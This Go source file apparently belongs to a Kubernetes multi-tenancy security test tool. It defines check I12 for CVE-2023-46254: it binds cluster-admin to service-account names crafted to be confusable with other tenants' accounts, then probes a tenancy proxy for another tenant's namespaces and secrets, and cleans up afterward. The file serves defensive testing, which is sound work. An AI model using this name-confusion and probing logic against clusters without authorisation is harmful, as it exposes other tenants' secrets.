package attack

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	"github.com/tenure-dev/tenure/internal/tenants"
	authenticationv1 "k8s.io/api/authentication/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

func init() {
	register(Attack{
		ID: "I12", Via: Proxy,
		Title:      "is taken by the proxy for an account of another tenant that has the same name, or one that reads the same",
		Controls:   []string{"the proxy, to which accounts are a namespace and a name"},
		References: []string{"CVE-2023-46254"},
		Fix:        Fix{Advice: proxyAdvice + ": accounts are looked up by namespace and name, never by one of them or by both as one text"},
		Run:        passesForAnotherAtProxy,
	})
}

// passesForAnotherAtProxy gives accounts that nobody is the right to the victim's
// namespace, named so that they are easily mistaken for the tenant's; and asks the
// proxy for namespaces as those.
func passesForAnotherAtProxy(ctx context.Context, e *Env) Finding {
	if e.door == nil || e.outside == nil {
		return onProxy(nil)(ctx, e)
	}
	// The account that every namespace has, and the tenant's own.
	attackers := []tenants.Account{{Namespace: e.Namespace, Name: "default"}, e.Account}
	witness := tenants.Account{Namespace: e.Victim.Namespace, Name: "default"}
	binding := &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Namespace: e.Victim.Namespace, Name: name("i12-proxy-" + e.Namespace)},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   mistakable(e.Victim.Namespace, append(attackers, witness)...),
	}
	if err := e.Admin.Create(ctx, binding); err != nil {
		return unproven("cannot bind the accounts that are to be mistaken: " + firstLine(err.Error()))
	}
	defer func() { _ = e.Admin.Delete(context.WithoutCancel(ctx), binding) }()
	return onProxy(func(ctx context.Context, c *caller) ([]knock, error) {
		uids, err := c.victimUIDs(ctx)
		if err != nil {
			return nil, err
		}
		if err := c.sawBinding(ctx, witness, uids); err != nil {
			return nil, err
		}
		var all []knock
		for _, account := range attackers {
			token, err := e.tokenOf(ctx, account, authenticationv1.TokenRequestSpec{})
			if err != nil {
				return nil, err
			}
			as := *c
			as.who = account
			for _, path := range []string{namespacesPath, "/api/v1/secrets"} {
				all = append(all, knock{what: "see another tenant's objects as " + account.String() + " with GET " + path, path: path, token: token, breach: as.showsBeyondRights(uids)})
			}
		}
		return all, nil
	})(ctx, e)
}

// sawBinding waits until the proxy knows of the binding: the witness is in it.
func (c *caller) sawBinding(ctx context.Context, witness tenants.Account, uids []types.UID) error {
	token, err := c.env.tokenOf(ctx, witness, authenticationv1.TokenRequestSpec{})
	if err != nil {
		return err
	}
	var last error
	err = poll(ctx, 10*time.Second, func(ctx context.Context) (bool, error) {
		r, err := c.knock(ctx, knock{path: namespacesPath, token: token})
		if last = err; err != nil {
			return false, nil
		}
		return shows(uids)(ctx, r)
	})
	if err != nil {
		return fmt.Errorf("the proxy does not show its namespace to %s: %w", witness, errors.Join(err, last))
	}
	return nil
}

// mistakable are accounts that are none of those given, and are easily taken for one:
// of the same name in another namespace, and those that read the same if namespace
// and name are joined, by a hyphen or by nothing. Those that are in the namespace are
// themselves.
func mistakable(namespace string, accounts ...tenants.Account) []rbacv1.Subject {
	var all []rbacv1.Subject
	add := func(namespace, name string) {
		if namespace != "" && name != "" && namespace == strings.Trim(namespace, "-") && name == strings.Trim(name, "-") {
			all = append(all, rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: namespace, Name: name})
		}
	}
	for _, a := range accounts {
		add(namespace, a.Name)
		if a.Namespace == namespace {
			continue
		}
		joined := a.Namespace + "-" + a.Name
		for i := range joined {
			if joined[i] == '-' && i != len(a.Namespace) {
				add(joined[:i], joined[i+1:])
			}
		}
		last := len(a.Namespace) - 1
		add(a.Namespace[:last], a.Namespace[last:]+a.Name)
	}
	return all
}
